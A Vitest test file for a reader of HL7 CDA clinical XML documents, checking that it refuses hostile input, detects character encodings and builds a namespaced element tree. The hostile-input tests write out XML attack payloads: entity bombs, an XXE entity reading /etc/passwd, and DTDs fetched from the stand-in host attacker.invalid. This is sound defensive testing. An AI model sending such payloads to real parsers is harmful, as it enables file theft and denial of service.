import { describe, expect, test } from 'vitest';
import { concat, utf8 } from '#base/bytes.ts';
import { readCda, type CdaError } from '#documents/cda/read-cda.ts';
import { readXml } from '#documents/xml/read-xml.ts';
import { XML_LIMITS, type XmlLimits } from '#documents/xml/limits.ts';
import { attribute, descend, walk, wordsOf } from '#documents/xml/element.ts';
import { unwrap } from '#base/result.ts';
import { sampleCdaN1, sampleCdaN3 } from '#test/support/documents/samples.ts';

const errorOf = (input: string | Uint8Array, limits?: XmlLimits): CdaError['type'] | undefined => {
  const result = readCda(input, limits);
  return result.ok ? undefined : result.error.type;
};

const inTitle = (content: string): string =>
  sampleCdaN3().replace(/<title>.*?<\/title>/, `<title>${content}</title>`);
const withDoctype = (doctype: string, content = 'x'): string =>
  inTitle(content).replace('?>', `?>\n${doctype}`);

describe('hostile XML is refused with a reason', () => {
  test('an entity bomb', () => {
    const entities = Array.from(
      { length: 12 },
      (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`,
    ).join('');
    const bomb = withDoctype(`<!DOCTYPE d [<!ENTITY l0 "lol">${entities}]>`, '&l12;');
    expect(errorOf(bomb)).toBe('DoctypeRefused');
  });

  test('a quadratic entity bomb', () => {
    const bomb = withDoctype(`<!DOCTYPE d [<!ENTITY a "${'a'.repeat(100_000)}">]>`, '&a;'.repeat(100_000));
    expect(errorOf(bomb)).toBe('DoctypeRefused');
  });

  test.each([
    '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE d PUBLIC "-//x" "http://attacker.invalid/evil.dtd">',
    '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.invalid/p"> %p;]>',
    '<!DOCTYPE ClinicalDocument>',
    '<!-- <a> --><?p <b> ?>\r\n<!DOCTYPE never [ "ends',
  ])('an external or internal document type: %s', (doctype) => {
    expect(errorOf(withDoctype(doctype, '&x;'))).toBe('DoctypeRefused');
  });

  test('an entity that nobody declared', () => {
    expect(errorOf(inTitle('&nbsp;'))).toBe('Malformed');
  });

  test('elements inside each other without end', () => {
    expect(errorOf('<a>'.repeat(1_000_000))).toBe('TooDeep');
    expect(errorOf(inTitle('<b>'.repeat(300) + '</b>'.repeat(300)))).toBe('TooDeep');
  });

  test('an element with a flood of attributes', () => {
    const flood = Array.from({ length: 200_000 }, (_, i) => `a${i}="1"`).join(' ');
    expect(errorOf(inTitle(`<b ${flood}/>`))).toBe('TooManyAttributes');
  });

  test('a huge attribute', () => {
    expect(errorOf(inTitle(`<b a="${'x'.repeat(200_000)}"/>`))).toBe('AttributeTooLong');
  });

  test('a huge text, unless it is declared as base64', () => {
    const huge = 'x'.repeat(2 * 1024 * 1024);
    expect(errorOf(inTitle(huge))).toBe('TextTooLong');
    expect(errorOf(inTitle(`<![CDATA[${huge}]]>`))).toBe('TextTooLong');
    expect(errorOf(inTitle(`<b representation="B64">${huge}</b>`))).toBeUndefined();
  });

  test('more elements than any document has', () => {
    expect(errorOf(inTitle('<b/>'.repeat(300_000)))).toBe('TooManyElements');
  });

  test('more than a dossier takes', () => {
    expect(errorOf(sampleCdaN1(), { ...XML_LIMITS, size: 100 })).toBe('TooLarge');
  });

  test.each([
    ['nothing', '', 'Empty'],
    ['plain words', 'Bonjour', 'Malformed'],
    ['an end without start', '</a>', 'Malformed'],
    ['two roots', '<a/><b/>', 'Malformed'],
    ['an undeclared prefix', '<x:a/>', 'Malformed'],
    ['the same attribute twice', '<a b="1" b="2"/>', 'Malformed'],
    ['a control character', '<a>\u0001</a>', 'Malformed'],
    ['a null character by reference', '<a>&#0;</a>', 'Malformed'],
    ['a PDF', '%PDF-1.4 …', 'Malformed'],
    ['HTML', '<html><body><script>alert(1)</script></body></html>', 'NotCda'],
    ['another namespace', '<ClinicalDocument xmlns="urn:other"/>', 'NotCda'],
    ['no namespace', '<ClinicalDocument/>', 'NotCda'],
    ['an open element', '<a><b>', 'Truncated'],
    ['an open tag', '<a><b', 'Truncated'],
    ['an open comment', '<a/><!-- ', 'Truncated'],
    ['an empty clinical document', '<ClinicalDocument xmlns="urn:hl7-org:v3"/>', 'HeaderIncomplete'],
  ])('%s', (_, text, error) => {
    expect(errorOf(text)).toBe(error);
  });

  test.each(['id', 'code', 'effectiveTime', 'recordTarget', 'component'])('a document without %s', (part) => {
    const without = sampleCdaN3().replace(new RegExp(`<${part}[ >].*?(/>|</${part}>)`, 's'), '');
    const result = readCda(
      part === 'component' ? sampleCdaN3().replace(/<component>.*<\/component>/s, '') : without,
    );
    if (part === 'recordTarget')
      expect(readCda(sampleCdaN3().replace(/<recordTarget>.*<\/recordTarget>/s, ''))).toMatchObject({
        error: { part },
      });
    else expect(result).toMatchObject({ ok: false, error: { type: 'HeaderIncomplete', part } });
  });

  test('names of built-in members are only names', () => {
    const text = inTitle('<__proto__ constructor="1" __proto__="2" toString="3"/>');
    expect(readCda(text).ok).toBe(true);
    expect(readCda('<a xmlns:__proto__="urn:hl7-org:v3"><__proto__:b/></a>').ok).toBe(false);
    expect(({} as Record<string, unknown>)['uri']).toBeUndefined();
  });
});

const latin1 = (text: string): Uint8Array => Uint8Array.from(text, (char) => char.charCodeAt(0));
const utf16 = (text: string, little: boolean, mark: boolean): Uint8Array => {
  const bytes = new Uint8Array(text.length * 2);
  const view = new DataView(bytes.buffer);
  for (let i = 0; i < text.length; i++) view.setUint16(i * 2, text.charCodeAt(i), little);
  return concat(mark ? Uint8Array.from(little ? [0xff, 0xfe] : [0xfe, 0xff]) : new Uint8Array(0), bytes);
};
const declared = (encoding: string): string => sampleCdaN3({ title: 'Été' }).replace('UTF-8', encoding);
const titleOf = (bytes: Uint8Array): string | undefined => unwrap(readCda(bytes)).header.title;

describe('encodings', () => {
  test.each([
    ['UTF-8', utf8(declared('UTF-8'))],
    ['UTF-8 with a mark', concat(Uint8Array.of(0xef, 0xbb, 0xbf), utf8(declared('UTF-8')))],
    ['UTF-8 by default', utf8(declared('UTF-8').replace(/<\?xml.*?\?>\n/, ''))],
    ['ISO-8859-1', latin1(declared('ISO-8859-1'))],
    ['windows-1252', latin1(declared('Windows-1252'))],
    ['UTF-16LE with a mark', utf16(declared('UTF-16'), true, true)],
    ['UTF-16BE with a mark', utf16(declared('UTF-16'), false, true)],
    ['UTF-16LE without a mark', utf16(declared('UTF-16LE'), true, false)],
  ])('%s is read', (_, bytes) => {
    expect(titleOf(bytes)).toBe('Été');
  });

  test.each([
    ['Latin-1 that says UTF-8', latin1(declared('UTF-8')), 'EncodingWrong'],
    ['8-bit text that says UTF-16', utf8(declared('UTF-16')), 'EncodingWrong'],
    ['EBCDIC', utf8(declared('IBM037')), 'EncodingUnsupported'],
    ['UTF-7', utf8(declared('UTF-7')), 'EncodingUnsupported'],
    ['UTF-32', Uint8Array.of(0xff, 0xfe, 0, 0, 0x3c, 0, 0, 0), 'EncodingUnsupported'],
    ['UTF-16 cut in a character', utf16(declared('UTF-16'), true, true).subarray(0, 301), 'EncodingWrong'],
  ])('%s is refused', (_, bytes, error) => {
    expect(errorOf(bytes)).toBe(error);
  });
});

describe('the tree', () => {
  const root = unwrap(
    readXml('<a xmlns="u" xmlns:p="v" n=" 1 " p:n="2">x <b>y</b>\n<p:b>z</p:b><![CDATA[<c>]]></a>'),
  );

  test('keeps names with their namespaces and drops declarations', () => {
    expect([...walk(root)].map(({ uri, local }) => `${uri}:${local}`)).toEqual(['u:a', 'u:b', 'v:b']);
    expect(root.attributes).toHaveLength(2);
    expect([attribute(root, 'n'), attribute(root, 'n', 'v')]).toEqual(['1', '2']);
  });

  test('gives the text in order, with white space as one blank', () => {
    expect(wordsOf(root)).toBe('x y z<c>');
    expect(wordsOf(descend(root, 'b'))).toBe('y');
    expect(descend(root, 'b', 'missing')).toBeUndefined();
  });
});
